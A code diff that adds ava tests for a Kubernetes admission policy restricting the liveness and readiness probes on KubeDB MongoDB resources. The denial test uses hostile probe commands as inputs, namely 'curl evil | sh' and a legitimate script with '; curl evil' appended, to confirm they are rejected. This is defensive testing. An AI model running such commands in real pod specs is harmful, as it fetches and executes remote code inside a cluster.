@@ -1,9 +1,13 @@
 /** The admission policy, against the API server's own CEL and with the functions' own tokens. */
 import { randomUUID } from 'node:crypto'
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { setTimeout as delay } from 'node:timers/promises'
 import test from 'ava'
+import * as v from 'valibot'
 import { apply } from '../../sandbox/administrator.ts'
-import type { JsonObject } from '../../shared/values/json.ts'
+import { kinds } from '../../shared/kubedb/databases/kinds.ts'
+import { Json, JsonObject } from '../../shared/values/json.ts'
 import { type JsonAnswer, type TestCluster, useCluster } from '../support/cluster.ts'
 
 const cluster = useCluster(test)
@@ -164,6 +168,113 @@ for (const [what, [object, sentence]] of Object.entries(hostile)) {
     if (pruned) t.notRegex(answer.text, /evil|foreign|hostNetwork"|hostPID"|SYS_ADMIN|privileged"/)
   })
 }
+
+const encrypted =
+  '--tls --tlsCAFile=/var/run/mongodb/tls/ca.crt --tlsCertificateKeyFile=/var/run/mongodb/tls/client.pem'
+/** A probe as KubeDB's defaulter writes it, told here once more and not by the generator. */
+const probe = (shell: 'mongo' | 'mongosh', tls = ''): JsonObject => ({
+  exec: {
+    command: [
+      'bash',
+      '-c',
+      `set -x; if [[ $(${shell} admin --host=localhost ${tls} --quiet --eval "db.adminCommand('ping').ok" ) -eq "1" ]]; then \n          exit 0\n        fi\n        exit 1`,
+    ],
+  },
+  failureThreshold: 3,
+  periodSeconds: 10,
+  successThreshold: 1,
+  timeoutSeconds: 5,
+})
+const probed = (livenessProbe: JsonObject, readinessProbe = livenessProbe, name = 'mongodb') =>
+  pod({ containers: [{ name, livenessProbe, readinessProbe }] })
+const mongodb = (spec: JsonObject): JsonObject => ({
+  ...postgres({ version: '8.0.17', ...spec }),
+  kind: 'MongoDB',
+})
+const sharded = (part: 'shard' | 'configServer' | 'mongos', template: JsonObject): JsonObject => {
+  const storage = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } }
+  const parts: { [name: string]: JsonObject } = {
+    shard: { shards: 2, replicas: 3, storage },
+    configServer: { replicas: 3, storage },
+    mongos: { replicas: 2 },
+  }
+  const shardTopology = { ...parts, [part]: { ...parts[part], ...template } }
+  const spec = { version: '8.0.17', storageType: 'Durable', deletionPolicy: 'WipeOut', shardTopology }
+  return { ...mongodb({}), spec }
+}
+
+/** What a cluster with the sandbox's own CRDs drops cannot be judged there. */
+const judged = ({ text }: JsonAnswer) => cluster.crds === 'upstream' || /Probe/.test(text)
+
+test('a MongoDB with the probes that KubeDB writes passes, at its making and at every change', async (t) => {
+  for (const template of [
+    probed(probe('mongosh', '')),
+    probed(probe('mongosh', encrypted)),
+    probed(probe('mongo', '')),
+    probed(probe('mongo', encrypted)),
+  ]) {
+    const answer = await provision('POST', path('mongodbs'), mongodb(template))
+    t.is(answer.status, 201, answer.text)
+    for (const part of ['shard', 'configServer', 'mongos'] as const) {
+      const made = await provision('POST', path('mongodbs'), sharded(part, template))
+      t.is(made.status, 201, `${part}: ${made.text}`)
+    }
+  }
+  // Made while KubeDB's webhook was away: it writes the probes at the next change.
+  const object = mongodb({})
+  const one = `${cluster.databasesPath('mongodbs')}/${(object.metadata as JsonObject).name}`
+  t.is((await provision('POST', path('mongodbs', false), object)).status, 201)
+  const change = { spec: { deletionPolicy: 'Delete', ...probed(probe('mongosh', '')) } }
+  for (const changer of [update, deprovision]) {
+    const answer = await changer('PATCH', one, change, 'application/merge-patch+json')
+    t.is(answer.status, 200, answer.text)
+  }
+  t.is((await deprovision('DELETE', one)).status, 200)
+})
+
+const answers = join(import.meta.dirname, '../../../shared/kubedb-webhooks/golden')
+test('what KubeDB has made of every plan passes', async (t) => {
+  if (!existsSync(answers)) {
+    t.log(`skipped: KubeDB's answers are not in ${answers}`)
+    return t.pass()
+  }
+  const paths = new Map([...kinds.values()].map(({ kind, plural }) => [kind, path(plural)]))
+  for (const file of readdirSync(answers, { recursive: true, encoding: 'utf8' })) {
+    if (!file.endsWith('.json') || file.startsWith('ops/')) continue
+    const { defaulted } = v.parse(
+      v.object({ defaulted: v.objectWithRest({ kind: v.string(), metadata: JsonObject }, Json) }),
+      JSON.parse(readFileSync(join(answers, file), 'utf8')),
+    )
+    const object = { ...defaulted, metadata: { ...defaulted.metadata, namespace: databases } }
+    const answer = await provision('POST', String(paths.get(defaulted.kind)), object)
+    t.false(denied(answer), `${file}: ${answer.text}`)
+    if (answer.status !== 201) t.log(`${file}: ${answer.status} ${answer.text.slice(0, 300)}`)
+  }
+})
+
+test('no probe but those of KubeDB, and nowhere else', async (t) => {
+  const good = probe('mongosh', '')
+  const command = (text: string) => ({ ...good, exec: { command: ['bash', '-c', text] } })
+  const script = String((good.exec as { command: string[] }).command[2])
+  const attempts: [what: string, plural: string, object: JsonObject][] = [
+    ['a command', 'mongodbs', mongodb(probed(command('curl evil | sh')))],
+    ['a command behind that of KubeDB', 'mongodbs', mongodb(probed(command(`${script}; curl evil`)))],
+    ['as the second probe', 'mongodbs', mongodb(probed(good, command('sh')))],
+    ['at another interval', 'mongodbs', mongodb(probed({ ...good, periodSeconds: 1 }))],
+    ['with a member more', 'mongodbs', mongodb(probed({ ...good, httpGet: { port: 1 } }))],
+    ['in another container', 'mongodbs', mongodb(probed(good, good, 'replication-mode-detector'))],
+    ['a startup probe', 'mongodbs', mongodb(pod({ containers: [{ name: 'mongodb', startupProbe: good }] }))],
+    ['in a part of shards', 'mongodbs', sharded('mongos', probed(command('sh')))],
+    ['for another kind', 'postgreses', postgres(probed(good))],
+    ['for another kind by that name', 'postgreses', postgres(probed(good, good, 'postgres'))],
+  ]
+  for (const [what, plural, object] of attempts) {
+    const answer = await provision('POST', path(plural), object)
+    if (judged(answer)) t.true(denied(answer), `${what}: ${answer.text}`)
+    else t.log(`${what}: the CRDs of this run have no such field`)
+  }
+  t.pass()
+})
 
 test('pod templates in parts of a database are bounded too', async (t) => {
   const storage = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } }
